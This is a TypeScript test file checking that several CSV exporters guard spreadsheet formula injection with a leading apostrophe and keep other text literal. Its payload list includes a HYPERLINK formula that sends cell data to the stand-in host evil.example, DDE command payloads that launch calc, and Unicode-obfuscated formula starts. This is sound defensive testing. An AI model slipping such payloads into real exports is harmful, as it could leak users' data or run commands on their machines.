/**
 * CSV exports with hostile cells: every exporter (blacklist, analytics tables, campaign send log, report-import
 * errors) guards text a spreadsheet would run as a formula with a leading apostrophe, and keeps everything else
 * literal (HTML, mustache, RTL/zero-width characters, very long strings), parsed back cell for cell.
 */
import Papa from 'papaparse';
import { blacklistToCsv } from '../../lib/blacklist-csv';
import { guardFormula, unguardFormula } from '../../lib/csv/guard';
import { tableToCsv } from '../../lib/analytics';
import { sendLogToCsv } from '../../lib/campaigns/runner/csv';
import { errorsToCsv } from '../../lib/imports/errors-csv';
import type { BlacklistEntry, SendLogEntry } from '../../lib/model';
import { HOSTILE_PAYLOADS, longText } from '../replica/data/hostile';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  // what a spreadsheet reads as the same: compatibility forms (NFKC), invisible characters, blanks after ;
  '\uFF1D1+1',
  '\u200B=1+1',
  'x; =1+1',
  'x;\u3000=1+1',
  'x\uFF1B=1+1',
  '\u202E\uFF20SUM(A1)',
  '\u00A0+1',
];
const LITERAL = [...HOSTILE_PAYLOADS.filter((p) => !runs(p)), longText(5_000, '<b>x</b>'), 'Ana\u202Eevil\u202C \u200B'];

const parse = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

/** the rule, written independently of lib/csv/guard.ts: decided on each character's NFKC form */
function nfkc(ch: string): string { return ch.normalize('NFKC'); }
function isStart(ch: string | undefined): boolean { return ch !== undefined && ['=', '+', '-', '@'].includes(nfkc(ch)); }
function isSeparator(ch: string | undefined): boolean { return ch !== undefined && [';', ',', '\t', '\r', '\n'].includes(nfkc(ch)); }
function isSkipped(ch: string): boolean { return nfkc(ch).trim() === '' || /\p{Cf}/u.test(ch); }
function formulaAt(chars: string[], i: number): boolean {
  let j = i;
  while (j < chars.length && isSkipped(chars[j]!)) j++;
  return isStart(chars[j]);
}
function guardedByRule(v: string): string {
  const chars = [...v];
  let out = '';
  chars.forEach((ch, i) => { out += ch; if (isSeparator(ch) && formulaAt(chars, i + 1)) out += "'"; });
  return formulaAt(chars, 0) || /^[\t\r]/.test(v) ? `'${out}` : out;
}
/** a cell that would run: it starts (after blanks and invisible characters) with = + - @ in any compatible form */
function runs(c: string): boolean { return formulaAt([...c], 0) || /^[\t\r]/.test(c); }

/** every cell of the parsed file: formulas guarded, the rest literal */
function expectGuarded(rows: string[][], values: readonly string[]): void {
  const cells = rows.flat();
  for (const c of cells) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(runs(c), c.slice(0, 80)).toBe(false);
  for (const v of values) {
    // the rule: an apostrophe before a formula start at the beginning of the cell and after ; , tab or line break
    expect(cells, v.slice(0, 80)).toContain(guardedByRule(v));
  }
}

describe('the formula guard', () => {
  it('knows every character NFKC turns into a formula start or a separator', () => {
    for (let c = 0; c < 0x10000; c++) {
      if (c >= 0xd800 && c < 0xe000) continue;
      const ch = String.fromCharCode(c);
      if (isStart(ch)) expect(guardFormula(ch), `U+${c.toString(16)}`).toBe(`'${ch}`);
      if (isSeparator(ch) && !/[\t\r]/.test(ch)) expect(guardFormula(`x${ch}=1`), `U+${c.toString(16)}`).toBe(`x${ch}'=1`);
    }
  });

  it('an import undoes exactly what the export added', () => {
    for (const v of [...FORMULAS, ...LITERAL, "it's", "x;'y"]) expect(unguardFormula(guardFormula(v)), v.slice(0, 40)).toBe(v);
  });
});

describe('CSV exports guard formulas (hostile names, reasons, texts)', () => {
  const values = [...FORMULAS, ...LITERAL];

  it('blacklist export', () => {
    const entries: BlacklistEntry[] = values.map((v, i) => ({
      id: `e${i}`, buyerName: v, reason: v, marketplaceId: 'ATVPDKIKX0DER', addedAt: '2026-01-01T00:00:00.000Z',
    }));
    const rows = parse(blacklistToCsv(entries));
    expect(rows).toHaveLength(values.length + 1);
    expectGuarded(rows, values);
  });

  it('analytics tables (tableToCsv)', () => {
    const rows = parse(tableToCsv(['template', 'n'], values.map((v) => [v, -3])));
    expectGuarded(rows, values);
    // negative numbers stay numbers
    expect(rows[1]?.[1]).toBe('-3');
  });

  it('campaign send log', () => {
    const entries: SendLogEntry[] = values.map((v, i) => ({
      key: `review-request|111-0000000-000000${i % 10}`, kind: 'review-request', stage: 'failed', reason: v, text: v, templateId: v,
      attempts: 1, createdAt: '2026-01-01T00:00:00.000Z', updatedAt: '2026-01-01T00:00:00.000Z',
    }) as SendLogEntry);
    expectGuarded(parse(sendLogToCsv(entries)), values);
  });

  it('report-import errors', () => {
    const rows = parse(errorsToCsv(values.map((v, i) => ({ line: i + 2, column: v, field: 'buyer-name', value: v, reason: v }))));
    expectGuarded(rows, values);
  });
});
